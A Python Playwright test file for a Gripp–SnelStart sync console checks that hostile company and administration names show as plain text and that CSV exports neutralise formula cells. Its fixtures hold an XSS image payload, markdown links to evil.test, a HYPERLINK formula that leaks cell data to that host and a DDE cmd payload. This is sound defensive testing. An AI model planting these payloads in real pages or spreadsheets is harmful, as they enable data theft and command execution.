"""Outside text is text (issue 12, findings 5 and 6): names from Gripp and SnelStart shown on every page exactly
as written — never as a link, emphasis, HTML or a Streamlit colour — and CSV cells a spreadsheet would run as a
formula neutralised. In a real browser, on the sandbox with a world whose names are hostile.
"""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest

from sync.sandbox.seed import ADMIN_ACADEMY, IDENTITY_ACADEMY, IDENTITY_ADVIES, IDENTITY_STUDIO
from sync.sandbox.seed_small import small_world
from tests import console_helpers as helpers
from tests.browser import chromium_page, needs_chromium, page_text, wait_idle

pytestmark = [*needs_chromium, pytest.mark.loopback]

STUDIO = "<img src=x onerror=alert(1)> Studio"
ADVIES = ":red[Noord] Advies $x^2$ :material/warning:"
ACADEMY = "**Noord** [Academy](https://evil.test/identity)"
ADMINISTRATION = "[Klik hier om te bevestigen](https://evil.test/administration)"
FORMULA = '=HYPERLINK("http://evil.test/csv?"&A1,"Klik")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
LEDGER_SUFFIX = " [meer](https://evil.test/ledger)"


def hostile_world(folder: Path) -> None:
    """The (small) demo world with hostile names, saved where the console will load it; the open-items cache filled
    (a dry run, as `python -m sync dry-run` does it)."""
    world = small_world()
    world.gripp.identities.update({IDENTITY_STUDIO: STUDIO, IDENTITY_ADVIES: ADVIES, IDENTITY_ACADEMY: ACADEMY})
    world.snelstart.administrations[ADMIN_ACADEMY].naam = ADMINISTRATION
    for ledger in world.gripp.ledgers.values():
        ledger.name += LEDGER_SUFFIX
    studio_companies = sorted({inv.company_id for inv in world.gripp.invoices.values()
                               if inv.identity_id == IDENTITY_STUDIO})
    for n, company_id in enumerate(studio_companies):  # every customer: some of each have open items
        world.gripp.companies[company_id].companyname = (FORMULA, AT_FORMULA)[n % 2]
    world.save(folder / "sandbox-state.json")
    subprocess.run([sys.executable, "-m", "sync", "dry-run", "--identity", str(IDENTITY_STUDIO)], cwd=folder,
                   env=helpers.clean_env(SYNC_DB_PATH=str(folder / "sync.duckdb"), CONSOLE_PUBLIC_URL="http://x.test"),
                   check=True, capture_output=True, timeout=120)


@pytest.fixture
def server(tmp_path: Path):
    hostile_world(tmp_path)
    with helpers.healthy_server(tmp_path) as started:
        yield started


def assert_shown_as_text(page, *texts: str) -> None:
    wait_idle(page)
    body = page_text(page)
    for text in texts:
        assert text in body, (text, body)
    assert page.locator("a[href*='evil.test']").count() == 0, "an outside name became a link"
    assert page.locator("img[src='x']").count() == 0, "an outside name became HTML"


def download(page, button) -> tuple[str, str]:
    """The file a download button gives: its name and its text. A click that lands while the page is still settling
    is sometimes dropped by the browser: try again (the file is the same)."""
    for _ in range(3):
        try:
            with page.expect_download(timeout=20_000) as started:  # a loaded machine is slow to start it
                button.click()
            return started.value.suggested_filename, Path(started.value.path()).read_text(encoding="utf-8")
        except Exception:  # playwright's TimeoutError
            wait_idle(page)
    raise AssertionError("the download did not start")


def test_outside_names_show_as_written_on_every_page_and_csv_cells_are_not_formulas(server, tmp_path) -> None:
    with chromium_page() as page:
        page.goto(server.base + "/")
        page.get_by_role("heading", name="Overzicht", exact=True).wait_for()
        assert_shown_as_text(page, STUDIO, ADVIES, ACADEMY)

        # Link Noord Academy through the (simulated) SnelStart page: its administration's name comes back.
        page.goto(server.base + "/Koppelen?identity=3")
        page.get_by_role("heading", name="Koppelen met SnelStart").wait_for()
        page.get_by_text("SnelStart-koppeling aan voor deze identiteit").click()
        page.get_by_role("button", name="Maatwerk key ophalen").click()
        activation = page.get_by_role("link", name="Naar SnelStart").get_attribute("href")
        page.goto(activation)
        page.get_by_text("Een enkele administratie koppelen").click()
        page.get_by_label(ADMINISTRATION, exact=True).check()
        page.get_by_role("button", name="Koppel").click()
        page.wait_for_url(re.compile(r"/Koppelen\?identity=3&ref="))
        page.get_by_text("SnelStart heeft de koppeling afgerond").wait_for()
        assert_shown_as_text(page, ADMINISTRATION)
        page.get_by_role("button", name="Koppeling opslaan").click()
        page.get_by_text("is gekoppeld aan administratie").wait_for()
        assert_shown_as_text(page, ADMINISTRATION, ACADEMY)

        page.goto(server.base + "/Synchronisatie")
        page.get_by_role("heading", name="Synchronisatie", exact=True).wait_for()
        assert_shown_as_text(page, ADMINISTRATION, ACADEMY, STUDIO)

        page.goto(server.base + "/Controles?identity=3")
        page.get_by_role("heading", name="Controles", exact=True).wait_for()
        assert_shown_as_text(page, LEDGER_SUFFIX.strip())

        page.goto(server.base + "/")
        page.get_by_role("heading", name="Overzicht", exact=True).wait_for()
        assert_shown_as_text(page, ADMINISTRATION, ACADEMY)

        page.goto(server.base + "/Openstaande_posten?identity=1")
        page.get_by_role("heading", name="Openstaande posten: Gripp en SnelStart naast elkaar").wait_for()
        assert_shown_as_text(page)
        name, csv_text = download(page, page.get_by_role("button", name="Download als CSV").first)
        assert name == "openstaande-posten-studio-noord-1.csv"  # two customers' files never share a name
    cells = [cell for line in csv_text.splitlines() for cell in line.split(";")]
    assert any(FORMULA.replace('"', '""') in cell for cell in cells), "the hostile company is in the export"
    starts = [cell.lstrip('"')[:1] for cell in cells]
    assert not {"=", "@", "+"} & set(starts), "a cell a spreadsheet would run as a formula"
    assert any(cell.lstrip('"').startswith("'=HYPERLINK") for cell in cells)
    assert any(cell.lstrip('"').startswith("'@SUM") for cell in cells)
